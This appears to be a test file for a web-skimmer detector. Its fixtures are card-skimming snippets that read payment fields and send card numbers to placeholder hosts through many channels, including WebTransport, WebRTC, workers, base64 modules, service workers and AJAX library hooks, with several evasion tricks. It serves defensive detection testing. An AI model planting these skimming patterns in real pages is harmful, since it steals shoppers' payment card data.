// Typed data is seen leaving through every channel of browsers, and under every name of an element.
import { describe, expect, it } from 'vitest'
import { judgeScript } from '#detection/index.ts'

const verdict = (code: string) => judgeScript(code).verdict
const card = `document.querySelector('#cc-number').value`
const theft = `fetch('https://seen-often.example/v', { method: 'POST', body: ${card} })`

describe('channels', () => {
  it.each([
    [
      'a datagram',
      `(async () => { const t = new WebTransport('https://q1.fast-files.example/s'); await t.ready; const w = t.datagrams.writable.getWriter(); document.addEventListener('change', () => w.write(new TextEncoder().encode(${card}))) })()`,
    ],
    [
      'a stream',
      `var t = new WebTransport('https://q1.fast-files.example/s'); document.querySelector('form').onsubmit = async function () { var s = await t.createUnidirectionalStream(); var w = s.getWriter(); w.write(${card}) }`,
    ],
    [
      'a stream of both ways',
      `const t = new WebTransport('https://q1.fast-files.example/s'); t.createBidirectionalStream().then(function (s) { const w = s.writable.getWriter(); setInterval(() => w.write(${card}), 900) })`,
    ],
    [
      'a piped stream',
      `const t = new WebTransport('https://q1.fast-files.example/s'); t.createUnidirectionalStream().then((s) => new Blob([${card}]).stream().pipeTo(s))`,
    ],
    [
      'a data channel',
      `var p = new RTCPeerConnection({ iceServers: [{ urls: 'turn:relay.fast-files.example:3478', username: 'a', credential: 'b' }] }); var c = p.createDataChannel('x'); document.onchange = function () { c.send(${card}) }`,
    ],
    [
      'the other side’s data channel',
      `var p = new RTCPeerConnection({ iceServers: [{ urls: ['stun:relay.fast-files.example'] }] }); p.ondatachannel = function (e) { e.channel.onopen = function () { e.channel.send(${card}) } }`,
    ],
    [
      'a heard data channel',
      `const p = new RTCPeerConnection({ iceServers: [{ urls: 'turn:relay.fast-files.example' }] }); p.addEventListener('datachannel', ({ channel }) => setInterval(() => channel.send(${card}), 500))`,
    ],
    [
      'a worker of a blob',
      `var w = new Worker(URL.createObjectURL(new Blob(['onmessage = function (e) { fetch("https://seen-often.example/w", { method: "POST", body: e.data }) }']))); document.onchange = function () { w.postMessage(${card}) }`,
    ],
    [
      'a worker of a data address',
      `const w = new Worker('data:text/javascript,' + encodeURIComponent('self.addEventListener("message", (e) => navigator.sendBeacon("https://seen-often.example/w", e.data))')); setInterval(() => w.postMessage({ n: ${card} }), 99)`,
    ],
    ['a module in an address', `import('data:text/javascript,' + encodeURIComponent(${JSON.stringify(theft)}))`],
    ['a module in base64', `import('data:text/javascript;base64,${btoa(theft)}')`],
    ['a module of a blob', `import(URL.createObjectURL(new Blob([atob('${btoa(theft)}')], { type: 'text/javascript' })))`],
    [
      'a script of a blob',
      `var s = document.createElement('script'); s.src = URL.createObjectURL(new Blob([${JSON.stringify(theft)}])); document.head.append(s)`,
    ],
    [
      'a script of a data address',
      `var s = document.createElement('script'); s.setAttribute('src', 'data:text/javascript;base64,' + '${btoa(theft)}'); document.head.append(s)`,
    ],
    [
      'a frame of a data address',
      `var f = document.createElement('iframe'); f.src = 'data:text/html,<script>${encodeURIComponent(theft)}</script>'; document.body.append(f)`,
    ],
    ['an address that is code', `location.href = 'javascript:' + encodeURIComponent(${JSON.stringify(theft)})`],
    [
      'a service worker',
      `self.addEventListener('fetch', function (e) { if (/pay/.test(e.request.url)) e.request.clone().text().then(function (card_number) { fetch('https://seen-often.example/s', { method: 'POST', body: card_number }) }) })`,
    ],
    [
      'a wrapped function',
      `window.fetch = new Proxy(window.fetch, { apply: function (target, self, given) { if (/card/.test(given[0])) navigator.sendBeacon('https://seen-often.example/p', given[1].body); return Reflect.apply(target, self, given) } })`,
    ],
  ])('%s is malicious or suspicious', (_name, code) => {
    expect(verdict(code)).not.toBe('benign')
  })

  it.each([
    [
      'a worker that counts',
      `var w = new Worker(URL.createObjectURL(new Blob(['onmessage = function (e) { postMessage(e.data * 2) }']))); w.postMessage(21)`,
    ],
    [
      'a video call',
      `const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:stun.chat-help.example' }] }); const c = p.createDataChannel('chat'); document.querySelector('#say').onclick = () => c.send(document.querySelector('#message-search').textContent)`,
    ],
    ['a module in an address', `import('data:text/javascript,export default 1').then((m) => console.log(m.default))`],
    [
      'a service worker that caches',
      `self.addEventListener('fetch', (e) => e.respondWith(caches.match(e.request).then((found) => found || fetch(e.request))))`,
    ],
  ])('%s is benign', (_name, code) => {
    expect(verdict(code)).toBe('benign')
  })
})

describe('the memory of WebAssembly', () => {
  const memory = 'var memory = new WebAssembly.Memory({ initial: 1 })'
  const sendsIt = `fetch('https://seen-often.example/w?' + new TextDecoder().decode(new Uint8Array(memory.buffer, 0, 16)))`

  it('is followed if the code writes and reads it through one list', () => {
    const code = `${memory}; var list = new Uint8Array(memory.buffer); document.onchange = function () { var t = ${card}; for (var i = 0; i < t.length; i++) list[i] = t.charCodeAt(i)
      var out = ''; for (var j = 0; list[j]; j++) out += String.fromCharCode(list[j]); navigator.sendBeacon('https://seen-often.example/w', out) }`
    expect(verdict(code)).toBe('malicious')
  })

  it.each([
    [
      'one view writes and another reads',
      `${memory}; document.onchange = () => { new TextEncoder().encodeInto(${card}, new Uint8Array(memory.buffer)); ${sendsIt} }`,
    ],
    [
      'bytes are set',
      `${memory}; document.onchange = () => { new Uint8Array(memory.buffer).set(new TextEncoder().encode(${card}), 8); fetch('https://seen-often.example/w', { method: 'POST', body: memory.buffer }) }`,
    ],
    [
      'the module sends',
      `WebAssembly.instantiate(bytes, { js: { send: (at) => ${sendsIt} } }).then(({ instance: { exports } }) => { memory = exports.memory; document.onchange = () => exports.run(new TextEncoder().encodeInto(${card}, new Uint8Array(memory.buffer)).written) })`,
    ],
    [
      'the name is put together',
      `var memory = new (window['Web' + 'Assembly'].Memory)({ initial: 1 }); document.onchange = () => { new TextEncoder().encodeInto(${card}, new Uint8Array(memory.buffer)); ${sendsIt} }`,
    ],
    [
      'the name is another',
      `const W = WebAssembly; const memory = new W.Memory({ initial: 1 }); document.onchange = () => { new TextEncoder().encodeInto(${card}, new Uint8Array(memory.buffer)); ${sendsIt} }`,
    ],
  ])('leaves a script without a verdict if %s', (_how, code) => {
    const { verdict, missing } = judgeScript(code)
    expect([verdict, missing.map((one) => one.code)]).toEqual(['inconclusive', ['webassembly']])
  })

  it('is not a doubt in code that contacts nobody, or reads no typed data', () => {
    expect(verdict(`${memory}; document.onchange = () => new TextEncoder().encodeInto(${card}, new Uint8Array(memory.buffer))`)).toBe(
      'benign',
    )
    expect(verdict(`${memory}; fetch('/draw').then((r) => r.body.getReader().read()).then((read) => draw(memory, read.value))`)).toBe(
      'benign',
    )
    expect(verdict(`WebAssembly.instantiateStreaming(fetch('/draw.wasm')).then((r) => r.instance.exports.draw())`)).toBe('benign')
  })
})

describe('hooks that libraries call for each request of the page', () => {
  it.each([
    [
      'ajaxSend',
      `$(document).ajaxSend(function (e, x, s) { if (/card/.test(s.data)) $.post('https://seen-often.example/j', { d: s.data }) })`,
    ],
    [
      'ajaxSend as an event',
      `jQuery(document).on('ajaxSend', (e, x, options) => navigator.sendBeacon('https://seen-often.example/j', 'cc_number' + options.data))`,
    ],
    [
      'ajaxPrefilter',
      `$.ajaxPrefilter(function (options, original) { new Image().src = 'https://seen-often.example/card_number?' + JSON.stringify(original.data) })`,
    ],
    [
      'ajaxPrefilter of a type',
      `jQuery.ajaxPrefilter('json script', function (o) { fetch('https://seen-often.example/j', { method: 'POST', body: 'cvv' + o.data }) })`,
    ],
    [
      'ajaxSuccess',
      `jQuery(document).ajaxSuccess((e, x, s, d) => { fetch('https://seen-often.example/j', { method: 'POST', body: btoa('card_number' + s.data) }) })`,
    ],
    [
      'ajaxComplete',
      `$j(document).ajaxComplete(function (e, x, s) { if (s.url.indexOf('payment') > -1) { var i = new Image(); i.src = 'https://seen-often.example/j?cc_number=' + encodeURIComponent(s.data) } })`,
    ],
    [
      'ajaxSetup',
      `$.ajaxSetup({ beforeSend: function (x, s) { if (/cc_number/.test(s.data)) navigator.sendBeacon('https://seen-often.example/j', s.data) } })`,
    ],
    [
      'Prototype',
      `Ajax.Responders.register({ onCreate: function (r) { if (/cc_number/.test(r.body)) new Image().src = 'https://seen-often.example/j?' + r.body } })`,
    ],
    [
      'axios',
      `axios.interceptors.request.use(function (config) { if (/card_number/.test(config.data)) fetch('https://seen-often.example/j', { method: 'POST', body: JSON.stringify(config.data) }); return config })`,
    ],
  ])('is malicious in %s', (_name, code) => {
    expect(verdict(code)).toBe('malicious')
  })

  it.each([
    [
      'a token',
      `$(document).ajaxSend(function (e, x, s) { x.setRequestHeader('X-CSRF-Token', $('meta[name=csrf-token]').attr('content')) })`,
    ],
    ['a spinner', `$(document).ajaxSend(function () { $('#busy').show() }).ajaxComplete(function () { $('#busy').hide() })`],
    ['a form key', `$.ajaxPrefilter(function (options) { if (options.type === 'POST') options.data += '&form_key=' + window.FORM_KEY })`],
  ])('is benign for %s', (_name, code) => {
    expect(verdict(code)).toBe('benign')
  })
})

describe('elements as variables', () => {
  const markup = `document.querySelector('.methods').innerHTML = '<form name="payf"><input id="q7a" placeholder="Card number"><input id="q7b" name="q7n" placeholder="CVV"></form>'`
  it.each([
    [
      'an id',
      `${markup}; setInterval(function () { if (q7a.value) navigator.sendBeacon('https://ultra-often.example/n', q7a.value + q7b.value) }, 900)`,
    ],
    [
      'a member of the window',
      `${markup}; window.q7a.onblur = function () { fetch('https://ultra-often.example/n', { method: 'POST', body: window['q7a'].value + '|' + self.q7b.value }) }`,
    ],
    [
      'an element that is made',
      `var i = document.createElement('input'); i.id = 'zz1'; i.placeholder = 'Card number'; document.body.append(i); document.onclick = function () { new Image().src = 'https://ultra-often.example/n?' + zz1.value }`,
    ],
    [
      'attributes that are set',
      `var i = document.createElement('input'); i.setAttribute('id', 'zz2'); i.setAttribute('autocomplete', 'cc-number'); document.body.append(i); onclick = () => fetch('https://ultra-often.example/n', { method: 'POST', body: zz2.value })`,
    ],
    [
      'markup that is written',
      `document.write('<input id=k1 placeholder="Card number"><input id=k2 placeholder=CVC>'); k1.addEventListener('change', () => fetch('https://ultra-often.example/n?a=' + k1.value + k2.value))`,
    ],
    [
      'markup that is inserted',
      `document.body.insertAdjacentHTML('beforeend', '<div><input id="m1" aria-label="Card number"></div>'); m1.oninput = (e) => navigator.sendBeacon('https://ultra-often.example/n', m1.value)`,
    ],
    [
      'a field that the page has',
      `document.onsubmit = function () { fetch('https://ultra-often.example/n', { method: 'POST', body: cardNumber.value + ';' + cvv.value }) }`,
    ],
    [
      'a form by its name',
      `document.onsubmit = function () { fetch('https://ultra-often.example/n', { method: 'POST', body: document.checkout.card_number.value }) }`,
    ],
    [
      'with a form',
      `document.onsubmit = function () { with (document.forms[0]) fetch('https://ultra-often.example/n', { method: 'POST', body: card_number.value + cvv.value }) }`,
    ],
    [
      'with the document',
      `with (document) { onsubmit = function () { new Image().src = 'https://ultra-often.example/n?' + querySelector('#cc-number').value } }`,
    ],
    [
      'with a request',
      `document.onsubmit = function () { with (new XMLHttpRequest()) { open('POST', 'https://ultra-often.example/n'); send(document.querySelector('#cc-number').value) } }`,
    ],
    [
      'with a picture',
      `document.onsubmit = function () { with (new Image()) src = 'https://ultra-often.example/n?' + document.querySelector('#cc-number').value }`,
    ],
    [
      'with an object of its own',
      `var o = { to: 'https://ultra-often.example/n', f: '#cc-number' }; document.onsubmit = function () { with (o) { fetch(to, { method: 'POST', body: document.querySelector(f).value }) } }`,
    ],
  ])('are malicious: %s', (_name, code) => {
    expect(verdict(code)).toBe('malicious')
  })

  it('are fields only if the script or the page says so', () => {
    expect(
      verdict(`var settings = window.themeSettings; fetch('https://ultra-often.example/n', { method: 'POST', body: settings.value })`),
    ).toBe('benign')
  })
})
